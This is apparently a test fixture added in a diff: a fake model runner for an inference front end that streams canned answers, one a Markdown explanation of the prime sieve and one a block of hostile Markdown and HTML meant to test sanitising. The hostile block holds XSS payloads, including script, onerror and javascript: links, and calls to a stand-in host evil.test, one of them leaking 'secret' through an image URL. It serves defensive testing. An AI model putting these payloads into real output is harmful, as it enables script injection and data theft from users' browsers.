@@ -1,0 +1,143 @@
+"""What the fake models say: long Markdown, hostile Markdown, and answers that go wrong."""
+
+import asyncio
+from collections.abc import AsyncGenerator, Callable
+
+from inference.errors import ContextLengthExceeded, ModelLoadFailed, WorkerDied
+from inference.types import (
+    Accepted,
+    ChatRequest,
+    Event,
+    Finished,
+    FinishReason,
+    Loaded,
+    ModelCard,
+    Progress,
+    ReasoningDelta,
+    Request,
+    TextDelta,
+    Timings,
+    Usage,
+)
+from tests.fakes import FakeRunner
+
+TOKEN_S = 0.012
+
+MARKDOWN = """\
+A sieve is the **calm way** to list primes: write every number down, then strike out the multiples of each \
+prime you meet. Whatever is left has no divisor but one and itself.
+
+```python
+def primes_below(n: int) -> list[int]:
+    \"\"\"Every prime smaller than `n`.\"\"\"
+    is_prime = [False, False] + [True] * (n - 2)
+    for candidate in range(2, int(n**0.5) + 1):
+        if is_prime[candidate]:
+            is_prime[candidate**2 :: candidate] = [False] * len(is_prime[candidate**2 :: candidate])
+    return [number for number in range(n) if is_prime[number]]
+```
+
+Three things make it quick:
+
+1. It stops at the square root of *n*; a larger factor has a smaller partner.
+2. It begins at `candidate ** 2`, because smaller multiples are struck out already.
+3. It assigns a whole slice at once instead of looping.
+
+| n | primes below n | time |
+|--:|--:|--:|
+| 1,000 | 168 | 0.1 ms |
+| 1,000,000 | 78,498 | 90 ms |
+| 10,000,000 | 664,579 | 1.1 s |
+
+> For much larger ranges a segmented sieve keeps the memory small.
+
+More about it is on [Wikipedia](https://en.wikipedia.org/wiki/Sieve_of_Eratosthenes).
+"""
+
+# Each line tries to run something, to leave this origin, or to look like a part of the page.
+HOSTILE = """\
+Begin of the hostile answer.
+
+<script>document.title = "owned"; fetch("http://evil.test/script")</script>
+
+<img src=x onerror="document.title='owned'"> and ![pixel](http://evil.test/pixel.png?d=secret)
+
+[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>) [own](/logout/)
+
+<iframe src="http://evil.test/frame"></iframe> <svg onload="document.title='owned'"><use href="http://evil.test/#x"/></svg>
+
+<div style="background:url(http://evil.test/style)" onclick="document.title='owned'">styled</div>
+
+<form action="http://evil.test/form"><input autofocus onfocus="document.title='owned'"></form>
+
+<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
+
+[ref]: javascript:document.title='owned'
+
+[by reference][ref] <http://good.test/> <a href="http://evil.test" style="position:fixed" id="send">raw</a>
+
+```html
+<script>document.title = "owned"</script>
+```
+
+End of the hostile answer.
+"""
+
+
+def pieces(text: str) -> list[str]:
+    """The text cut as tokens would cut it: words with the blank before them."""
+    cut = [text[at : at + 4] for at in range(0, len(text), 4)]
+    return cut or [""]
+
+
+class ScriptedRunner(FakeRunner):
+    """A fake model whose answer depends on the last word of the question."""
+
+    async def load(self, card: ModelCard, on_progress: Callable[[int], None]) -> Loaded:
+        if card.id.startswith("broken"):
+            raise ModelLoadFailed("its weights are incomplete")
+        if card.id.startswith("endless"):
+            on_progress(40)
+            await asyncio.Event().wait()
+        steps = 25 if card.id.startswith("slow") else 1
+        for step in range(steps):
+            on_progress(100 * step // steps)
+            await asyncio.sleep(0.1 if steps > 1 else 0)
+        return await super().load(card, on_progress)
+
+    async def submit(self, request: Request) -> AsyncGenerator[Event]:
+        if not isinstance(request, ChatRequest):
+            raise ContextLengthExceeded("This fake only chats.")
+        topic = request.messages[-1].content.split()[-1].strip("?.!").lower()
+        yield Accepted(prompt_tokens=1200)
+        for done in range(0, 1200, 300):
+            yield Progress(phase="prefill", done=done, total=1200)
+            await asyncio.sleep(0.3 if topic == "prefill" else 0.03)
+        async for event in self._answer(topic, request):
+            yield event
+
+    async def _answer(self, topic: str, request: ChatRequest) -> AsyncGenerator[Event]:
+        if topic == "refused":
+            raise ContextLengthExceeded("The prompt has 9,000 tokens and the model reads 8,192; shorten it.")
+        if topic == "echo":
+            text = " | ".join(f"{message.role}: {message.content}" for message in request.messages)
+            text += f" | temperature {request.sampling.temperature} seed {request.sampling.seed}"
+        else:
+            text = HOSTILE if topic == "hostile" else MARKDOWN
+        reason: FinishReason = "length" if topic == "cut" else "stop"
+        if topic == "thoughts":
+            for piece in pieces("The user wants primes. A sieve is simplest, so I explain that one."):
+                yield ReasoningDelta(text=piece)
+                await asyncio.sleep(TOKEN_S)
+        said = pieces(text)
+        for index, piece in enumerate(said):
+            if topic == "dies" and index == 12:
+                raise WorkerDied("The model's process ended; ask again.")
+            if topic == "forever" and index == 40:
+                await asyncio.Event().wait()
+            yield TextDelta(text=piece)
+            await asyncio.sleep(TOKEN_S)
+        usage = Usage(prompt_tokens=1200, completion_tokens=len(said))
+        yield Finished(
+            reason=reason, usage=usage, timings=Timings(prefill_s=0.2, decode_s=len(said) * TOKEN_S)
+        )
